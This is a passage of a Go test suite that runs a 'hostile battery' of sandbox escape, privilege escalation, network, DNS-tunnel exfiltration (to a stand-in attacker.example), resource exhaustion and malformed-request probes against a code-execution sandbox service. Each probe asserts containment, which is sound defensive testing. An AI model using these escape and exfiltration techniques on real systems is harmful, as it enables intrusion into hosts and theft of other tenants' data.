package main

import (
	"bufio"
	"bytes"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/sessiond/sessiond/internal/agentapi"
	"github.com/sessiond/sessiond/internal/api"
	"github.com/sessiond/sessiond/internal/pool"
	"github.com/sessiond/sessiond/internal/sandbox"
	"github.com/sessiond/sessiond/internal/sandbox/oci"
)

// TestHostileBattery runs hostile code and hostile requests through the public API (the
// Azure data plane's executions and files endpoints) against real sandboxes, on every
// runtime available: a server built as serve builds it without authentication (loopback
// only, AllowedHosts set), one pool with tight limits, a victim session holding secrets,
// and an attacker session. Every attempt asserts its contained outcome: an Azure error
// envelope with the documented status and code, or an execution whose probe prints
// CONTAINED. Resource exhaustion runs while a bystander session is timed. The host is
// checked at the end (binaries, cgroup release agents, no file written outside, the victim
// intact). docs/SECURITY.md lists the attempts and what each proves.
//
// Every attempt runs on both runtimes; SESSIOND_HOSTILE_QUICK=1 keeps the exhaustion
// attempts (heavy: about a minute under gVisor) to runc, for a quicker run by hand.
func TestHostileBattery(t *testing.T) {
	env := newRealEnv(t)
	for _, rtName := range oci.Names() {
		t.Run(rtName, func(t *testing.T) {
			b := newBattery(t, env, rtName)
			full := rtName == "runc" || os.Getenv("SESSIOND_HOSTILE_QUICK") != "1"
			for _, a := range hostileAttempts {
				if a.heavy && !full {
					continue
				}
				t.Run(a.name, func(t *testing.T) { a.run(b, t) })
			}
			t.Run("host_intact", b.checkHost)
		})
	}
}

// attempt is one hostile attempt of the battery.
type attempt struct {
	name string
	// heavy attempts exhaust a resource; they run while a bystander session is timed.
	heavy bool
	run   func(b *battery, t *testing.T)
}

// battery is one runtime's target: the server, the pool's endpoint, and what the attempts
// look for.
type battery struct {
	caps sandbox.Capabilities
	// url is the pool endpoint; srv the server's root.
	url, srv string
	client   *http.Client
	// apiPort is the server's loopback port; exposedPort a second listener on every
	// interface serving the same API, so that a sandbox that could reach the host would
	// find it.
	apiPort, exposedPort int
	hostIPs              []string
	// dns is a stand-in DNS server on every host interface: it must receive nothing.
	dns *udpTrap
	// hostMarker names a file planted in the host's /tmp; evil is in every name an attempt
	// tries to create outside where it may, and must appear nowhere.
	hostMarker, evil string
	// victimMarker names the victim session's secrets: a file its code wrote in /mnt/data,
	// one in its /tmp, a kernel variable and a running process (see newBattery).
	victimMarker string
	// hashes of host files that no attempt may change, taken before the battery.
	hashes map[string]string
	// releaseAgents are the host cgroup release_agent files and their contents.
	releaseAgents map[string]string
	// dataDir holds the sandboxes' state, writable layers and data directories.
	dataDir string
}

// The battery's sessions. Identifiers are case-sensitive: the attacker's guesses are near
// the victim's.
const (
	victimID    = "victim-7f3a9c"
	malloryID   = "mallory-1"
	bystanderID = "bystander-1"
	// batteryAPI is the api-version of the battery's requests.
	batteryAPI = "2025-10-02-preview"
)

func newBattery(t *testing.T, env *realEnv, rtName string) *battery {
	rt := env.runtime(t, rtName)
	spec := pool.Spec{
		Name: "hostile-" + rtName, ContainerType: pool.PythonLTS, MaxConcurrentSessions: 8, ReadySessionInstances: 3,
		LifecycleType: "Timed", CooldownPeriod: 30 * time.Minute, Runtime: rtName, Image: env.img.Name,
		WarmupCode: "None", ExecutionTimeoutCap: 60 * time.Second,
		Limits: sandbox.Limits{MemoryBytes: 256 << 20, DiskBytes: 64 << 20, Pids: 128},
	}
	cp := env.startPools(t, []pool.Spec{spec})
	// Built as serve builds a server without authentication.
	h := api.New(api.Config{Pools: cp, Log: env.g.Log, AllowedHosts: loopbackHosts("127.0.0.1:0")})
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)
	exposed, err := net.Listen("tcp", "0.0.0.0:0")
	if err != nil {
		t.Fatal(err)
	}
	exposedSrv := &http.Server{Handler: h, ReadHeaderTimeout: 10 * time.Second}
	go exposedSrv.Serve(exposed)
	t.Cleanup(func() { exposedSrv.Close() })

	b := &battery{
		caps:         rt.Capabilities(),
		url:          srv.URL + "/subscriptions/s/resourceGroups/rg/sessionPools/" + spec.Name,
		srv:          srv.URL,
		client:       &http.Client{Timeout: 3 * time.Minute, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }},
		apiPort:      srv.Listener.Addr().(*net.TCPAddr).Port,
		exposedPort:  exposed.Addr().(*net.TCPAddr).Port,
		hostIPs:      hostIPv4s(),
		dns:          newUDPTrap(t),
		hostMarker:   "hostmark-" + randHex(6),
		evil:         "evil-" + randHex(6),
		victimMarker: "victimmark-" + randHex(6),
		dataDir:      env.g.DataDir,
	}
	hostFile := filepath.Join(os.TempDir(), b.hostMarker)
	if err := os.WriteFile(hostFile, []byte("host secret"), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Remove(hostFile) })
	b.hashes = hashFiles(t, append(runtimeBinaries(), os.Getenv("SESSIOND_AGENT"),
		filepath.Join(env.img.RootFS, "usr/bin/python3"), "/etc/passwd"))
	b.releaseAgents = releaseAgents()
	waitReady(t, cp, spec.Name, 3) // the victim, the attacker and the bystander start warm

	// The victim's secrets.
	b.upload(t, victimID, "secret.csv", []byte("victim,secret\n"), 200)
	b.mustRun(t, victimID, py(`
import subprocess
open("/mnt/data/{{M}}.txt", "w").write("victim data")
open("/tmp/{{M}}", "w").write("victim tmp")
secret_{{U}} = "victim kernel state"
victim_proc = subprocess.Popen(["{{M}}", "600"], executable="/bin/sleep")
print("ready")
`, "{{M}}", b.victimMarker, "{{U}}", strings.ReplaceAll(b.victimMarker, "-", "_")))
	return b
}

// hostileAttempts is the battery. docs/SECURITY.md lists it with what each attempt proves.
var hostileAttempts = []attempt{
	// Escape.
	{name: "escape/mount_tmpfs", run: func(b *battery, t *testing.T) {
		b.probe(t, malloryID, errnoProbe(`libc.mount(b"none", b"/mnt/data", b"tmpfs", 0, None)`, "EPERM"))
	}},
	{name: "escape/unshare_user_and_mount_namespace", run: (*battery).unshare},
	{name: "escape/proc_1_root", run: func(b *battery, t *testing.T) {
		b.probe(t, malloryID, `
import os
bad = []
for p in ("/proc/1/root", "/proc/1/cwd", "/proc/1/fd", "/proc/1/map_files"):
    try:
        os.listdir(p); bad.append(p)
    except OSError:
        pass
for p in ("/proc/1/root/etc/hostname", "/proc/1/environ", "/proc/1/mem", "/proc/1/exe"):
    try:
        open(p, "rb").read(1); bad.append(p)
    except OSError:
        pass
print("CONTAINED" if not bad else "ESCAPED %s" % bad)
`)
	}},
	{name: "escape/proc_self_exe_overwrite", run: func(b *battery, t *testing.T) {
		// CVE-2019-5736: writing the runtime binary through /proc/self/exe. The host's
		// runc, runsc and agent binaries are hashed before and after (host_intact).
		b.probe(t, malloryID, `
import os
bad = []
for p in ("/proc/self/exe", "/proc/1/exe"):
    for flags in (os.O_WRONLY, os.O_RDWR, os.O_WRONLY | os.O_APPEND):
        try:
            fd = os.open(p, flags)
            os.close(fd)
            bad.append((p, flags))
        except OSError:
            pass
print("CONTAINED" if not bad else "ESCAPED %s" % bad)
`)
	}},
	{name: "escape/ptrace_init", run: func(b *battery, t *testing.T) {
		b.probe(t, malloryID, errnoProbe(`libc.ptrace(16, 1, None, None)`, "EPERM", "ESRCH"))
	}},
	{name: "escape/kernel_module", run: func(b *battery, t *testing.T) {
		b.probe(t, malloryID, errnoProbe(`libc.syscall(313, os.open("/dev/null", os.O_RDONLY), b"", 0)`, "EPERM", "ENOSYS"))
		b.probe(t, malloryID, errnoProbe(`libc.syscall(175, b"\0" * 64, 64, b"")`, "EPERM", "ENOSYS"))
	}},
	{name: "escape/raw_and_packet_sockets", run: func(b *battery, t *testing.T) {
		b.probe(t, malloryID, errnoProbe(`libc.socket(2, 3, 1)`, "EPERM", "EACCES"))
		b.probe(t, malloryID, errnoProbe(`libc.socket(17, 3, 0x0300)`, "EPERM", "EACCES", "EAFNOSUPPORT"))
	}},
	{name: "escape/mknod_devices", run: func(b *battery, t *testing.T) {
		// gVisor serves its own /dev/fuse from the sentry (mounting still needs
		// privilege); under runc it would be the host's.
		fuse := `"/dev/fuse"`
		if b.caps.Isolation == "gvisor" {
			fuse = ""
		}
		b.probe(t, malloryID, py(`
import os, stat
bad = []
for path, mode, dev in (("/tmp/sda", stat.S_IFBLK | 0o666, os.makedev(8, 0)), ("/mnt/data/mem", stat.S_IFCHR | 0o666, os.makedev(1, 1))):
    try:
        os.mknod(path, mode, dev); bad.append(path)
    except OSError:
        pass
for path in ("/dev/mem", "/dev/kmem", "/dev/port", "/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/kmsg", {{FUSE}}):
    try:
        open(path, "rb").close(); bad.append(path)
    except OSError:
        pass
for d in os.listdir("/dev"):
    try:
        if stat.S_ISBLK(os.lstat("/dev/" + d).st_mode):
            bad.append("block device /dev/" + d)
    except OSError:
        pass
print("CONTAINED" if not bad else "ESCAPED %s" % bad)
`, "{{FUSE}}", fuse))
	}},
	{name: "escape/write_sys_and_proc_sys", run: func(b *battery, t *testing.T) {
		// Opened for writing and closed without writing: an escape would do no harm.
		b.probe(t, malloryID, `
import os
bad = []
for p in ("/sys/kernel/uevent_helper", "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/power/state",
          "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger"):
    try:
        os.close(os.open(p, os.O_WRONLY)); bad.append(p)
    except OSError:
        pass
print("CONTAINED" if not bad else "ESCAPED %s" % bad)
`)
	}},
	{name: "escape/cgroup_release_agent", run: func(b *battery, t *testing.T) {
		// The classic escape: mount a cgroup v1 hierarchy, set release_agent, trigger it.
		// The host's release_agent files are compared before and after (host_intact).
		b.probe(t, malloryID, `
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
bad = []
os.makedirs("/tmp/cg", exist_ok=True)
for opts in (b"rdma", b"memory", b"none,name=x"):
    if libc.mount(b"cgroup", b"/tmp/cg", b"cgroup", 0, opts) == 0:
        bad.append("mounted cgroup " + opts.decode())
for root, dirs, files in os.walk("/sys/fs/cgroup"):
    for n in files:
        if n in ("release_agent", "notify_on_release", "cgroup.procs"):
            p = os.path.join(root, n)
            try:
                os.close(os.open(p, os.O_WRONLY)); bad.append(p)
            except OSError:
                pass
print("CONTAINED" if not bad else "ESCAPED %s" % bad)
`)
	}},

	// Privilege.
	{name: "privilege/setuid_su_sudo", run: func(b *battery, t *testing.T) {
		b.probe(t, malloryID, `
import os, stat, subprocess
bad = []
suid = []
for d in ("/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/local/bin", "/usr/lib"):
    for root, dirs, files in os.walk(d):
        for n in files:
            p = os.path.join(root, n)
            try:
                st = os.lstat(p)
            except OSError:
                continue
            if stat.S_ISREG(st.st_mode) and st.st_mode & (stat.S_ISUID | stat.S_ISGID):
                suid.append(p)
# A setuid binary gives nothing under no_new_privs: run each one that prints ids.
for argv in (["su", "root", "-c", "id -u"], ["sudo", "-n", "id", "-u"], ["mount", "-t", "tmpfs", "none", "/tmp"]):
    try:
        r = subprocess.run(argv, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=20)
    except FileNotFoundError:
        continue
    if r.returncode == 0:
        bad.append((argv, r.stdout))
for f in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.setresuid(0, 0, 0)):
    try:
        f(); bad.append("set id 0")
    except PermissionError:
        pass
st = dict(l.split(":\t", 1) for l in subprocess.run(["cat", "/proc/self/status"], capture_output=True, text=True).stdout.splitlines() if ":\t" in l)
if st["Uid"].split() != ["1000"] * 4 or st["NoNewPrivs"].strip() != "1":
    bad.append(("child ids", st["Uid"], st["NoNewPrivs"]))
print("setuid binaries:", suid)
print("CONTAINED" if not bad else "ESCAPED %s" % bad)
`)
	}},
	{name: "privilege/capabilities", run: func(b *battery, t *testing.T) {
		b.probe(t, malloryID, `
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
st = dict(l.split(":\t", 1) for l in open("/proc/self/status").read().splitlines() if ":\t" in l)
caps = {k: int(st[k], 16) for k in ("CapInh", "CapPrm", "CapEff", "CapAmb")}
bad = [k for k, v in caps.items() if v]
if libc.prctl(47, 2, 12, 0, 0) != -1:  # PR_CAP_AMBIENT_RAISE CAP_NET_ADMIN
    bad.append("ambient raise")
print("CONTAINED" if not bad else "ESCAPED %s" % bad)
`)
	}},
	{name: "privilege/no_new_privs_and_seccomp", run: func(b *battery, t *testing.T) {
		want := "0" // not checked: gVisor filters the sentry's own host syscalls, out of sight
		if b.caps.Seccomp {
			want = "2"
		}
		b.probe(t, malloryID, py(`
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
st = dict(l.split(":\t", 1) for l in open("/proc/self/status").read().splitlines() if ":\t" in l)
bad = []
if st.get("NoNewPrivs", "").strip() != "1":
    bad.append("NoNewPrivs=%s" % st.get("NoNewPrivs"))
if "{{SECCOMP}}" != "0" and st.get("Seccomp", "").strip() != "{{SECCOMP}}":
    bad.append("Seccomp=%s" % st.get("Seccomp"))
libc.prctl(38, 0, 0, 0, 0)  # PR_SET_NO_NEW_PRIVS cannot be cleared
if libc.prctl(39, 0, 0, 0, 0) != 1:
    bad.append("no_new_privs cleared")
print("CONTAINED" if not bad else "ESCAPED %s" % bad)
`, "{{SECCOMP}}", want))
	}},
	{name: "privilege/signal_the_agent", run: func(b *battery, t *testing.T) {
		b.probe(t, malloryID, errnoProbe(`libc.kill(1, 9)`, "EPERM"))
		b.probe(t, malloryID, errnoProbe(`libc.kill(1, 19)`, "EPERM"))
		if got := b.mustRun(t, malloryID, "6*7"); string(got.Result.ExecutionResult) != "42" {
			t.Errorf("the session after signalling its agent: %+v", got)
		}
	}},
	{name: "privilege/agent_socket", run: func(b *battery, t *testing.T) {
		b.probe(t, malloryID, `
import os, socket
bad = []
try:
    os.listdir("`+agentapi.SocketDir+`"); bad.append("listed")
except OSError:
    pass
s = socket.socket(socket.AF_UNIX)
try:
    s.connect("`+agentapi.SocketDir+"/"+agentapi.SocketName+`"); bad.append("connected")
except OSError:
    pass
try:
    open("`+agentapi.AgentPath+`", "ab").close(); bad.append("agent binary writable")
except OSError:
    pass
print("CONTAINED" if not bad else "ESCAPED %s" % bad)
`)
	}},

	// Other sessions and the host.
	{name: "isolation/host_and_other_session_files", run: func(b *battery, t *testing.T) {
		b.probe(t, malloryID, py(`
import os
found = []
for root, dirs, files in os.walk("/"):
    if root in ("/proc", "/sys", "/dev"):
        dirs[:] = []
        continue
    for n in files + dirs:
        if "{{V}}" in n or "{{H}}" in n or n == "secret.csv":
            found.append(os.path.join(root, n))
print("CONTAINED" if not found else "ESCAPED %s" % found)
`, "{{V}}", b.victimMarker, "{{H}}", b.hostMarker))
	}},
	{name: "isolation/other_session_processes", run: func(b *battery, t *testing.T) {
		b.probe(t, malloryID, py(`
import os
seen, pids = [], [p for p in os.listdir("/proc") if p.isdigit()]
for p in pids:
    try:
        if b"{{V}}" in open("/proc/%s/cmdline" % p, "rb").read():
            seen.append(p)
    except OSError:
        pass
print("CONTAINED" if not seen and len(pids) < 32 else "ESCAPED %s of %d" % (seen, len(pids)))
`, "{{V}}", b.victimMarker))
	}},
	{name: "isolation/other_session_via_the_api", run: func(b *battery, t *testing.T) {
		// The attacker's own identifier sees none of the victim's files.
		var list struct{ Value []struct{ Name string } }
		b.json(t, "GET", b.url+"/files?api-version="+batteryAPI+"&identifier="+malloryID, nil, 200, &list)
		for _, f := range list.Value {
			if f.Name == "secret.csv" || strings.Contains(f.Name, b.victimMarker) {
				t.Errorf("the attacker lists the victim's file %q", f.Name)
			}
		}
		resp, body := b.do(t, "GET", b.url+"/files/secret.csv/content?api-version="+batteryAPI+"&identifier="+malloryID, nil, nil)
		wantEnvelope(t, resp, body, 404, "NotFound")
		// Near guesses of the victim's identifier have no session (GET session never
		// allocates one).
		for _, guess := range []string{"Victim-7f3a9c", "victim-7f3a9", "victim-7f3a9c ", "victim-7f3a9d", "victim-7F3A9C"} {
			resp, body := b.do(t, "GET", b.url+"/session?api-version="+batteryAPI+"&identifier="+url.QueryEscape(guess), nil, nil)
			if resp.StatusCode == 200 {
				t.Errorf("guess %q reaches a session: %s", guess, body)
			}
		}
	}},
	{name: "isolation/identifier_validation", run: func(b *battery, t *testing.T) {
		for _, id := range []string{
			"abc", strings.Repeat("a", 129), `..%5C..%5Cwindows`, "abc%20def", "abc%00def", "abc%0D%0Adef",
			"abc%C3%A9", "%FF%FE%FD%FC", "ab%09cd", "",
		} {
			resp, body := b.do(t, "POST", b.url+"/executions?api-version="+batteryAPI+"&identifier="+id, jsonBody(`{"code":"1"}`), nil)
			wantEnvelope(t, resp, body, 400, "SessionRequestValidationFailed")
		}
	}},
	{name: "isolation/path_like_identifier_is_opaque", run: func(b *battery, t *testing.T) {
		// '/' and '.' are in Azure's identifier alphabet: a path-like identifier is a valid,
		// opaque key, never a path. It gets a fresh session of its own; host_intact checks
		// that nothing named after it appears anywhere.
		id := "../../../../tmp/" + b.evil
		q := "?api-version=" + batteryAPI + "&identifier=" + url.QueryEscape(id)
		var list struct{ Value []json.RawMessage }
		b.json(t, "GET", b.url+"/files"+q, nil, 200, &list)
		if len(list.Value) != 0 {
			t.Errorf("a new path-like identifier lists files: %s", list.Value)
		}
		b.do(t, "DELETE", b.url+"/session"+q, nil, nil)
	}},

	// Network (EgressDisabled: loopback only).
	{name: "network/only_loopback", run: func(b *battery, t *testing.T) {
		b.probe(t, malloryID, `
import socket
names = [n for _, n in socket.if_nameindex()]
print("CONTAINED" if names == ["lo"] else "ESCAPED %s" % names)
`)
	}},
	{name: "network/control_plane_api", run: func(b *battery, t *testing.T) {
		targets := [][2]string{{"127.0.0.1", strconv.Itoa(b.apiPort)}, {"::1", strconv.Itoa(b.apiPort)}, {"127.0.0.1", strconv.Itoa(b.exposedPort)}}
		for _, ip := range b.hostIPs {
			targets = append(targets, [2]string{ip, strconv.Itoa(b.exposedPort)}, [2]string{ip, strconv.Itoa(b.apiPort)})
		}
		b.probe(t, malloryID, connectProbe(targets, true))
	}},
	{name: "network/cloud_metadata", run: func(b *battery, t *testing.T) {
		b.probe(t, malloryID, connectProbe([][2]string{{"169.254.169.254", "80"}, {"169.254.170.2", "80"},
			{"fd00:ec2::254", "80"}, {"100.100.100.200", "80"}, {"168.63.129.16", "80"}}, true))
	}},
	{name: "network/internet_and_private_ranges", run: func(b *battery, t *testing.T) {
		b.probe(t, malloryID, connectProbe([][2]string{{"1.1.1.1", "443"}, {"8.8.8.8", "53"}, {"10.0.0.1", "80"},
			{"172.17.0.1", "80"}, {"192.168.1.1", "80"}, {"2606:4700:4700::1111", "443"}}, false))
	}},
	{name: "network/dns_resolution", run: func(b *battery, t *testing.T) {
		b.probe(t, malloryID, `
import socket
resolved = []
for n in ("example.com", "metadata.google.internal", "kubernetes.default.svc", "host.docker.internal"):
    try:
        resolved.append((n, socket.getaddrinfo(n, 80)[0][4]))
    except OSError:
        pass
print("CONTAINED" if not resolved else "ESCAPED %s" % resolved)
`)
		if n := b.dns.count(); n != 0 {
			t.Errorf("the host's stand-in DNS server received %d packets", n)
		}
	}},
	{name: "network/dns_tunnel", run: func(b *battery, t *testing.T) {
		// Data smuggled in query names, sent to every resolver a sandbox could know of and
		// to the stand-in DNS server on the host's addresses.
		targets := []string{"127.0.0.1", "127.0.0.53", "8.8.8.8", "1.1.1.1"}
		targets = append(targets, b.hostIPs...)
		b.probe(t, malloryID, py(`
import os, socket, struct
servers = [(ip, 53) for ip in {{TARGETS}}] + [(ip, {{PORT}}) for ip in {{TARGETS}}]
try:
    servers += [(l.split()[1], 53) for l in open("/etc/resolv.conf") if l.startswith("nameserver")]
except OSError:
    pass
secret = b"the victim's data".hex()
def query(name):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack(">HH", 16, 1)
answers = []
for host, port in servers:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.5)
    try:
        s.sendto(query(secret + ".t.attacker.example"), (host, port))
        answers.append((host, port, s.recvfrom(512)[0][:8]))
    except OSError:
        pass
    finally:
        s.close()
try:
    socket.getaddrinfo(secret + ".t.attacker.example", 53)
    answers.append("resolved")
except OSError:
    pass
print("CONTAINED" if not answers else "ESCAPED %s" % answers)
`, "{{TARGETS}}", pyList(targets), "{{PORT}}", strconv.Itoa(b.dns.port)))
		if n := b.dns.count(); n != 0 {
			t.Errorf("the host's stand-in DNS server received %d packets", n)
		}
	}},

	// Resource exhaustion, each while the bystander session keeps answering.
	{name: "exhaustion/fork_bomb", heavy: true, run: (*battery).forkBomb},
	{name: "exhaustion/pids_held_agent_keeps_serving", heavy: true, run: (*battery).pidsHeld},
	{name: "exhaustion/memory_bomb", heavy: true, run: func(b *battery, t *testing.T) {
		id := b.attacker(t)
		by := b.watch(t)
		got := b.run(t, id, `
chunks = []
for i in range(64):
    chunks.append(bytearray(16 << 20))
    for j in range(0, len(chunks[-1]), 4096):
        chunks[-1][j] = 1
print("ALLOCATED", len(chunks) * 16, "MiB")
`, 60)
		if got.Status != "Failed" || strings.Contains(got.Result.Stdout, "ALLOCATED") {
			t.Errorf("1 GiB allocated in a 256 MiB session: %+v", got)
		}
		if !strings.Contains(got.Result.Stderr, agentapi.AbortedMessage) && !strings.Contains(got.Result.Stderr, "MemoryError") {
			t.Errorf("memory bomb stderr = %q, want %q or MemoryError", got.Result.Stderr, agentapi.AbortedMessage)
		}
		by.check(t)
		if got := b.mustRun(t, id, "6*7"); string(got.Result.ExecutionResult) != "42" {
			t.Errorf("the attacker's session after the memory bomb: %+v", got)
		}
	}},
	{name: "exhaustion/disk_fill", heavy: true, run: (*battery).diskFill},
	{name: "exhaustion/output_flood", heavy: true, run: func(b *battery, t *testing.T) {
		id := b.attacker(t)
		by := b.watch(t)
		const flood = `
import sys
for _ in range(32):
    sys.stdout.write("x" * (1 << 20))
    sys.stderr.write("y" * (1 << 20))
"done"
`
		// The new generation's default cap (4096 per stream) and the legacy API's (the
		// agent's, 1 MiB).
		resp, body := b.do(t, "POST", b.url+"/executions?api-version="+batteryAPI+"&identifier="+id,
			jsonBody(mustJSON(map[string]any{"code": flood})), nil)
		if resp.StatusCode != 200 || len(body) > 64<<10 {
			t.Errorf("flood through executions: %s, %d bytes", resp.Status, len(body))
		}
		resp, body = b.do(t, "POST", b.url+"/code/execute?api-version=2024-02-02-preview&identifier="+id,
			jsonBody(mustJSON(map[string]any{"properties": map[string]any{"code": flood}})), nil)
		if resp.StatusCode != 200 || len(body) > 3<<20 {
			t.Errorf("flood through code/execute: %s, %d bytes", resp.Status, len(body))
		}
		by.check(t)
	}},
	{name: "exhaustion/huge_result_value", heavy: true, run: func(b *battery, t *testing.T) {
		id := b.attacker(t)
		by := b.watch(t)
		resp, body := b.do(t, "POST", b.url+"/executions?api-version="+batteryAPI+"&identifier="+id,
			jsonBody(`{"code":"'x' * (36 << 20)"}`), nil)
		if resp.StatusCode != 200 || len(body) > agentapi.MaxDisplayBytes+(1<<20) {
			t.Errorf("a 36 MiB result: %s, %d bytes", resp.Status, len(body))
		}
		by.check(t)
		if got := b.mustRun(t, id, "6*7"); string(got.Result.ExecutionResult) != "42" {
			t.Errorf("the attacker's session after a huge result: %+v", got)
		}
	}},
	{name: "exhaustion/infinite_loop_timeout", heavy: true, run: func(b *battery, t *testing.T) {
		id := b.attacker(t)
		by := b.watch(t)
		b.mustRun(t, id, "kept = 7")
		for _, code := range []string{"while True: pass", "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass"} {
			t0 := time.Now()
			got := b.run(t, id, code, 3)
			if d := time.Since(t0); d > 60*time.Second {
				t.Errorf("a 3 s timeout returned after %v", d)
			}
			if got.Status != "Failed" || !strings.Contains(got.Result.Stderr, agentapi.TimeoutMessage) {
				t.Errorf("%q with a 3 s timeout: %+v", code, got)
			}
		}
		if got := b.mustRun(t, id, "6*7"); string(got.Result.ExecutionResult) != "42" {
			t.Errorf("the attacker's session after the loops: %+v", got)
		}
		by.check(t)
	}},

	// Malformed and oversized requests.
	{name: "requests/oversized_json_body", run: func(b *battery, t *testing.T) {
		big := `{"code":"` + strings.Repeat("a", 17<<20) + `"}`
		resp, body := b.do(t, "POST", b.url+"/executions?api-version="+batteryAPI+"&identifier="+malloryID, jsonBody(big), nil)
		wantEnvelope(t, resp, body, 413, "RequestEntityTooLarge")
		code := `{"code":"` + strings.Repeat("#", agentapi.MaxCodeBytes+1) + `"}`
		resp, body = b.do(t, "POST", b.url+"/executions?api-version="+batteryAPI+"&identifier="+malloryID, jsonBody(code), nil)
		wantEnvelope(t, resp, body, 400, "SessionRequestValidationFailed")
	}},
	{name: "requests/deep_json_nesting", run: func(b *battery, t *testing.T) {
		const depth = 100000
		deep := `{"code":"1","x":` + strings.Repeat("[", depth) + strings.Repeat("]", depth) + `}`
		resp, body := b.do(t, "POST", b.url+"/executions?api-version="+batteryAPI+"&identifier="+malloryID, jsonBody(deep), nil)
		wantEnvelope(t, resp, body, 400, "SessionRequestValidationFailed")
		deep = strings.Repeat(`{"properties":`, depth) + `{"code":"1"}` + strings.Repeat("}", depth)
		resp, body = b.do(t, "POST", b.url+"/code/execute?api-version=2024-02-02-preview&identifier="+malloryID, jsonBody(deep), nil)
		wantEnvelope(t, resp, body, 400, "SessionRequestValidationFailed")
	}},
	{name: "requests/oversized_upload", run: (*battery).oversizedUpload},
	{name: "requests/invalid_utf8", run: func(b *battery, t *testing.T) {
		got := b.mustRun(t, malloryID, "print('a\xff\xfeb')")
		if got.Status != "Succeeded" || got.Result.Stdout != "a\uFFFD\uFFFDb\n" {
			t.Errorf("code with invalid UTF-8: %+v", got)
		}
		b.upload(t, malloryID, "bad\xffname.txt", []byte("x"), 400)
		resp, body := b.do(t, "GET", b.url+"/files?api-version="+batteryAPI+"&identifier="+malloryID+"&path=%FF", nil, nil)
		wantEnvelope(t, resp, body, 400, "SessionRequestValidationFailed")
		resp, body = b.do(t, "GET", b.url+"/files/%FF%FE/content?api-version="+batteryAPI+"&identifier="+malloryID, nil, nil)
		wantEnvelope(t, resp, body, 400, "SessionRequestValidationFailed")
	}},
	{name: "requests/nul_bytes", run: func(b *battery, t *testing.T) {
		// Python cannot compile it, and ipykernel would never answer: refused at once.
		t0 := time.Now()
		resp, body := b.do(t, "POST", b.url+"/executions?api-version="+batteryAPI+"&identifier="+malloryID,
			jsonBody(`{"code":"print(1)\u0000print(2)"}`), nil)
		wantEnvelope(t, resp, body, 400, "SessionRequestValidationFailed")
		if d := time.Since(t0); d > 30*time.Second {
			t.Errorf("code with a NUL answered after %v", d)
		}
		b.upload(t, malloryID, "a\x00b.txt", []byte("x"), 400)
		for _, p := range []string{"/files/a%00b/content", "/files?path=%00", "/files/a%00b"} {
			sep := "?"
			if strings.Contains(p, "?") {
				sep = "&"
			}
			resp, body := b.do(t, "GET", b.url+p+sep+"api-version="+batteryAPI+"&identifier="+malloryID, nil, nil)
			wantEnvelope(t, resp, body, 400, "SessionRequestValidationFailed")
		}
	}},
	{name: "requests/path_traversal", run: (*battery).pathTraversal},
	{name: "requests/symlink_download", run: (*battery).symlinkDownload},
	{name: "requests/symlink_upload", run: (*battery).symlinkUpload},
	{name: "requests/header_injection", run: (*battery).headerInjection},
	{name: "requests/api_version_abuse", run: (*battery).apiVersionAbuse},
	{name: "requests/dns_rebinding_host", run: func(b *battery, t *testing.T) {
		for _, host := range []string{"attacker.example", "127.0.0.1.nip.io:" + strconv.Itoa(b.apiPort), "localhost.attacker.example"} {
			resp, body := b.do(t, "GET", b.url+"/files?api-version="+batteryAPI+"&identifier="+malloryID, nil, map[string]string{"Host": host})
			wantEnvelope(t, resp, body, 421, "MisdirectedRequest")
		}
	}},
	{name: "requests/cross_site", run: func(b *battery, t *testing.T) {
		u := b.url + "/executions?api-version=" + batteryAPI + "&identifier=" + malloryID
		resp, body := b.do(t, "POST", u, jsonBody(`{"code":"1"}`), map[string]string{"Origin": "https://attacker.example"})
		wantEnvelope(t, resp, body, 403, "Forbidden")
		resp, body = b.do(t, "GET", b.url+"/files?api-version="+batteryAPI+"&identifier="+malloryID, nil, map[string]string{"Sec-Fetch-Site": "cross-site"})
		wantEnvelope(t, resp, body, 403, "Forbidden")
		resp, body = b.do(t, "POST", u, strings.NewReader(`{"code":"1"}`), map[string]string{"Content-Type": "text/plain"})
		wantEnvelope(t, resp, body, 400, "SessionRequestValidationFailed")
	}},
	{name: "requests/unknown_pool_and_method", run: func(b *battery, t *testing.T) {
		for _, p := range []string{"/pools/nope/files", "/pools/..%2F..%2Fetc/files", "/subscriptions/s/resourceGroups/rg/sessionPools/%2e%2e/files"} {
			resp, body := b.do(t, "GET", b.srv+p+"?api-version="+batteryAPI+"&identifier="+malloryID, nil, nil)
			if resp.StatusCode != 404 {
				t.Errorf("GET %s: %s %s", p, resp.Status, body)
			}
		}
		resp, body := b.do(t, "PUT", b.url+"/executions?api-version="+batteryAPI+"&identifier="+malloryID, jsonBody(`{"code":"1"}`), nil)
		wantEnvelope(t, resp, body, 405, "MethodNotAllowed")
	}},
}

// unshare tries new user and mount namespaces in a child process. On runc (the host
// kernel) the seccomp profile refuses them: a new user namespace is kernel attack
// surface. Inside gVisor they are the sentry's own, and harmless: the child may get one,
// but still sees nothing of the host.
func (b *battery) unshare(t *testing.T) {
	got := b.mustRun(t, malloryID, py(`
import subprocess, sys
child = r'''
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
